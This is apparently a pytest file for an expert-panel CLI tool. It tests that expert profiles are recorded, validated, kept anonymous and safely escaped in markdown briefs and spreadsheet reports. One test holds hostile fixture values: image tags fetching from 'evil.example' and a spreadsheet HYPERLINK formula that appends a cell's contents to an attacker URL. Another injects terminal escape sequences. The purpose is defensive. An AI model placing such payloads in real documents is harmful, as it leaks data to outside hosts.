"""Experts' non-identifying profiles: recorded at ``expert add`` or later, shown by ``expert
profile``, and summarised in the brief per attribute, never per expert and never by name."""

from __future__ import annotations

import re

from openpyxl import load_workbook

from ismpanel.elicitation.store import PanelStore, study_pairs
from tests.test_brief_claims import EHR, make_study


def answer_all(folder, expert: str) -> None:
    store = PanelStore.open(folder)
    store.record_many(expert, 1, {p: "V" for p in study_pairs(store.study)}, "import")
    store.close()


def test_profiles_are_recorded_changed_and_cleared(cli, tmp_path):
    folder = make_study(tmp_path / "s", EHR, experts=2, seed=1)
    run = cli("expert", "add", folder, "Dr Ada Example", "--attr", "sector=hospital",
              "--attr", "years=12")  # fmt: skip
    assert run.code == 0, run.err
    assert "Profile: sector=hospital, years=12" in run.out
    assert "E3: sector=hospital, years=12" in cli("expert", "profile", folder, "E3").out
    run = cli("expert", "profile", folder, "E3", "--attr", "years=", "--attr", "role=nurse")
    assert run.code == 0 and "E3: sector=hospital, role=nurse" in run.out
    assert "E1: no profile recorded" in cli("expert", "profile", folder, "E1").out


def test_bad_attributes_are_one_line_errors(cli, tmp_path):
    folder = make_study(tmp_path / "s", EHR, experts=1, seed=1)
    for args, message in (
        (["--attr", "sector"], "expected KEY=VALUE"),
        (["--attr", "bad key=x"], "a key is 1 to 40 letters"),
        (["--attr", "sector=" + "x" * 201], "over 200 characters"),
    ):
        run = cli("expert", "profile", folder, "E1", *args)
        assert run.code == 2 and run.err.count("\n") == 1 and message in run.err, run.err
    run = cli("expert", "profile", folder, "E9")
    assert run.code == 2 and "E9" in run.err


def test_the_brief_shows_the_composition_per_attribute_without_names(cli, tmp_path):
    folder = make_study(tmp_path / "s", EHR, experts=0, seed=1)
    people = [("Dr Ada Example", "hospital", "12"), ("Bo Sample", "hospital", "5"),
              ("Cy Person", "ministry\x1b", "25")]  # fmt: skip
    for name, sector, years in people:
        run = cli("expert", "add", folder, name, "--attr", f"sector={sector}",
                  "--attr", f"years={years}")  # fmt: skip
        assert run.code == 0, run.err
    for k in range(1, 4):
        answer_all(folder, f"E{k}")
    out = tmp_path / "brief.md"
    assert cli("brief", folder, "-o", out).code == 0
    text = out.read_text()
    # the one ministry expert is counted under "other"; three values are too few for a range
    assert "| sector | 3 of 3 | hospital (2), other (1) |" in text
    assert "| years | 3 of 3 | median 12 |" in text
    assert "\x1b" not in text
    for name, _, _ in people:
        assert name not in text
    assert cli("report", folder, "-o", tmp_path / "t.xlsx").code == 0
    sheet = load_workbook(tmp_path / "t.xlsx")["Panel composition"]
    assert [c.value for c in sheet[2]] == ["sector", "3 of 3", "hospital (2), other (1)"]


def test_a_study_without_profiles_has_no_composition_table(cli, tmp_path):
    folder = make_study(tmp_path / "s", EHR, experts=2, seed=3)
    out = tmp_path / "brief.md"
    assert cli("brief", folder, "-o", out).code == 0
    assert "Panel composition" not in out.read_text()


def test_a_bad_attribute_at_expert_add_adds_nobody(cli, tmp_path):
    folder = make_study(tmp_path / "s", EHR, experts=1, seed=1)
    run = cli("expert", "add", folder, "Dr New", "--attr", "bad key=1")
    assert run.code == 2 and "Expert E2 added" not in run.out
    store = PanelStore.open(folder, read_only=True)
    assert [e.id for e in store.experts()] == ["E1"]
    store.close()


def test_hostile_attributes_reach_neither_a_markdown_viewer_nor_a_spreadsheet_formula(
    cli, tmp_path
):
    folder = make_study(tmp_path / "s", EHR, experts=0, seed=1)
    hostile = ["![x](https://evil.example/t.png)<img src=https://evil.example/i.png>",
               '=HYPERLINK("http://evil.example/?"&README!B1,"open")']  # fmt: skip
    for k in range(5):
        value = hostile[0 if k < 2 else 1]  # the formula, most common, starts the cell
        assert cli("expert", "add", folder, f"Expert {k}", "--attr", f"sector={value}").code == 0
        answer_all(folder, f"E{k + 1}")
    out = tmp_path / "brief.md"
    assert cli("brief", folder, "-o", out).code == 0
    text = out.read_text()
    assert not re.search(r"(?<!\\)!(?<!\\)\[x|(?<!\\)<img", text)  # escaped: shown, not fetched
    assert "\\!\\[x\\](" in text and "\\<img" in text
    assert cli("report", folder, "-o", tmp_path / "t.xlsx").code == 0
    cells = [c for row in load_workbook(tmp_path / "t.xlsx")["Panel composition"] for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert any(str(c.value).startswith("=HYPERLINK") for c in cells)


def test_profiles_written_straight_into_the_database_are_cleaned_on_reading(tmp_path):
    import sqlite3

    folder = make_study(tmp_path / "s", EHR, experts=1, seed=1)
    store = PanelStore.open(folder)
    store.set_profile("E1", {"sector": "health"})
    store.close()
    conn = sqlite3.connect(folder / "panel.db")
    conn.execute("UPDATE expert_profiles SET value = 'he\x07al\x1b[2Jth'")
    conn.execute("INSERT INTO expert_profiles VALUES ('E1', 'bad key\x1b', 'x')")
    conn.commit()
    conn.close()
    store = PanelStore.open(folder, read_only=True)
    assert store.profiles() == {"E1": {"sector": "heal[2Jth"}}
    store.close()


def test_numbers_in_attributes_need_a_plain_decimal():
    from ismpanel.report.panel_tables import distribution

    assert distribution(["12", "5", "25", "3.5", "8"]) == "median 8 (range 3.5 to 25)"
    assert distribution(["12", "nan", "5", "nan"]) == "nan (2), other (2)"
    assert distribution(["1,000", "12", "1,000"]) == "1,000 (2), other (1)"
